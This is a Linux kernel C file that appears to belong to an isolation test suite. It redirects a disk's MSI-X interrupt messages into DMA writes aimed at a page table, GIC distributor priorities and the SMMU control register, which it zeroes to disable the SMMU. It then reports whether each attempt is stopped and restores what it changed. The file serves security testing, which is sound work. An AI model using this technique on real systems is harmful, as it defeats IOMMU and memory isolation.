// SPDX-License-Identifier: GPL-2.0-only
/*
 * Have a function raise its interrupts elsewhere. A message (MSI-X) is a store of four
 * bytes, and its driver says where to and what.
 */
#include <linux/bio.h>
#include <linux/completion.h>
#include <linux/delay.h>
#include <linux/gfp.h>
#include <linux/interrupt.h>
#include <linux/io.h>
#include <linux/irq.h>
#include <linux/mm.h>
#include <linux/of_address.h>
#include <linux/pci.h>
#include <linux/string.h>

#include <asm/pgtable.h>

#include "attack.h"
#include "device/disk.h"

/* Vectors of one disk: one for changes of its configuration, one for each queue */
#define MOST		17
/* No valid descriptor, whatever word it becomes a half of */
#define MARK		0xde71ce00U
/* A priority that GICs with two bits of it have as well */
#define PRIORITIES	0x40404040U
/* Milliseconds for a request of one page, and for the message behind it to arrive or not */
#define PATIENCE	5000
#define BEHIND		2000
/* Of the SMMU's first page: SMMUEN is bit 0. Arm IHI 0070, SMMU_CR0 */
#define SMMU_CR0	0x20

/* What a vector's entry holds: where to, and what. */
struct entry {
	u32 low, high, data;
};

struct messages {
	struct pci_dev *function;
	void __iomem *table;
	unsigned int count;
};

static void put_entry(const struct messages *messages, unsigned int i, struct entry entry)
{
	void __iomem *at = messages->table + i * PCI_MSIX_ENTRY_SIZE;

	writel(entry.low, at + PCI_MSIX_ENTRY_LOWER_ADDR);
	writel(entry.high, at + PCI_MSIX_ENTRY_UPPER_ADDR);
	writel(entry.data, at + PCI_MSIX_ENTRY_DATA);
}

static struct entry get_entry(const struct messages *messages, unsigned int i)
{
	void __iomem *at = messages->table + i * PCI_MSIX_ENTRY_SIZE;

	return (struct entry){
		.low = readl(at + PCI_MSIX_ENTRY_LOWER_ADDR),
		.high = readl(at + PCI_MSIX_ENTRY_UPPER_ADDR),
		.data = readl(at + PCI_MSIX_ENTRY_DATA),
	};
}

/* The disk's vectors, and what they hold. */
static bool open_messages(struct messages *messages)
{
	struct pci_dev *function = disk_function();
	u32 place;
	u16 flags;
	u8 at;

	if (!function || !function->msix_enabled) {
		attack_untried("the disk sends no messages");
		return false;
	}
	at = pci_find_capability(function, PCI_CAP_ID_MSIX);
	pci_read_config_word(function, at + PCI_MSIX_FLAGS, &flags);
	pci_read_config_dword(function, at + PCI_MSIX_TABLE, &place);
	messages->function = function;
	messages->count = min((flags & PCI_MSIX_FLAGS_QSIZE) + 1, MOST);
	messages->table = ioremap(pci_resource_start(function, place & PCI_MSIX_TABLE_BIR) +
				  (place & PCI_MSIX_TABLE_OFFSET),
				  messages->count * PCI_MSIX_ENTRY_SIZE);
	if (!messages->table)
		attack_untried("the table of messages cannot be mapped");
	return messages->table;
}

static void raise_all(const struct messages *messages)
{
	unsigned int i;
	int irq;

	/* The first one is for changes of the configuration */
	for (i = 1; i < messages->count; i++) {
		irq = pci_irq_vector(messages->function, i);
		if (irq > 0)
			irq_set_irqchip_state(irq, IRQCHIP_STATE_PENDING, true);
	}
}

static void done(struct bio *bio)
{
	complete(bio->bi_private);
}

/*
 * Has the disk send `data` to an address: the message behind a request of one page. What
 * does not come as an interrupt is raised afterwards. `seen` is a word that has `data` when
 * the message has arrived, or NULL.
 */
static void send(struct messages *messages, u64 address, u32 data, const u32 *seen)
{
	struct entry entry = { lower_32_bits(address), upper_32_bits(address), data };
	u64 *page = (u64 *)get_zeroed_page(GFP_KERNEL | __GFP_NOFAIL);
	DECLARE_COMPLETION_ONSTACK(completion);
	struct entry old[MOST];
	unsigned int i, waited;
	struct bio *bio;

	disk_write(DISK_MARKED, __pa(page));
	WRITE_ONCE(page[0], ~0UL);
	for (i = 0; i < messages->count; i++) {
		old[i] = get_entry(messages, i);
		put_entry(messages, i, entry);
	}
	bio = disk_request(DISK_MARKED, __pa(page));
	bio->bi_end_io = done;
	bio->bi_private = &completion;
	submit_bio(bio);
	for (waited = 0; waited < PATIENCE && READ_ONCE(page[0]) == ~0UL; waited += 20)
		msleep(20);
	for (waited = 0; waited < BEHIND && !(seen && READ_ONCE(*seen) == data); waited += 20)
		msleep(20);
	for (i = 0; i < messages->count; i++)
		put_entry(messages, i, old[i]);
	/* The request has this stack and the page, so nothing else will do than its end */
	do {
		raise_all(messages);
	} while (!wait_for_completion_timeout(&completion, HZ));
	bio_put(bio);
	free_page((unsigned long)page);
}

/* Whether a message arrives in ordinary memory. */
static bool messages_work(struct messages *messages)
{
	u32 *page = (u32 *)get_zeroed_page(GFP_KERNEL | __GFP_NOFAIL);
	bool arrived;

	send(messages, __pa(page), MARK, page);
	arrived = READ_ONCE(*page) == MARK;
	free_page((unsigned long)page);
	if (!arrived)
		attack_untried("no message arrives in ordinary memory");
	return arrived;
}

/* False if nothing is shown by an attempt, and attack_untried() has been called. */
static bool prepare(struct messages *messages)
{
	if (!disk_works() || !open_messages(messages))
		return false;
	if (messages_work(messages))
		return true;
	iounmap(messages->table);
	return false;
}

/* A message into a table of level 3. */
static void send_to_table(struct messages *messages)
{
	u64 *copy = (u64 *)__get_free_page(GFP_KERNEL | __GFP_NOFAIL);
	u64 frame = table_frame();
	u64 *word = (u64 *)__va(frame) + zero_words(__va(frame), 1);

	memcpy(copy, __va(frame), PAGE_SIZE);
	send(messages, __pa(word), MARK, (u32 *)word);
	if ((u32)READ_ONCE(*word) == MARK) {
		attack_succeeded("a message is in a table, at %#llx", __pa(word));
		undo_later(disk_put_back, frame, (u64)copy);
		return;
	}
	free_page((unsigned long)copy);
	if (messages_work(messages) && disk_works())
		attack_stopped("no message arrives there");
}

static void table(void)
{
	struct messages messages;

	if (!prepare(&messages))
		return;
	send_to_table(&messages);
	iounmap(messages.table);
}

/* Priorities of the last interrupts that there can be. They are put back. */
static void distributor(void)
{
	struct device_node *node = of_find_compatible_node(NULL, NULL, "arm,cortex-a15-gic");
	struct messages messages;
	struct resource registers;
	void __iomem *page = NULL;
	unsigned int at;
	u32 old, now;

	if (node && !of_address_to_resource(node, 0, &registers))
		page = ioremap(registers.start, PAGE_SIZE);
	if (!page)
		return attack_untried("there is no distributor");
	if (prepare(&messages)) {
		/* GICD_ITLinesNumber and GICD_IPRIORITYR. Arm IHI 0048, 4.3 */
		at = 0x400 + 32 * ((readl(page + 4) & 0x1f) + 1) - 4;
		old = readl(page + at);
		send(&messages, registers.start + at, old ^ PRIORITIES, NULL);
		now = readl(page + at);
		writel(old, page + at);
		if (now != old)
			attack_succeeded("a message changed the distributor from %#x to %#x",
					 old, now);
		else if (messages_work(&messages) && disk_works())
			attack_stopped("no message arrives there");
		iounmap(messages.table);
	}
	iounmap(page);
}

/* Turn the SMMU off, and then have the disk write the table. */
static void smmu(void)
{
	struct device_node *node = of_find_compatible_node(NULL, NULL, "arm,smmu-v3");
	struct messages messages;
	struct resource registers;

	if (!node || of_address_to_resource(node, 0, &registers))
		return attack_untried("there is no SMMU");
	if (!prepare(&messages))
		return;
	send(&messages, registers.start + SMMU_CR0, 0, NULL);
	send_to_table(&messages);
	iounmap(messages.table);
}

DONJON_ATTACK("message-by-device", "table", table);
DONJON_ATTACK("message-by-device", "distributor", distributor);
DONJON_ATTACK("message-by-device", "smmu", smmu);
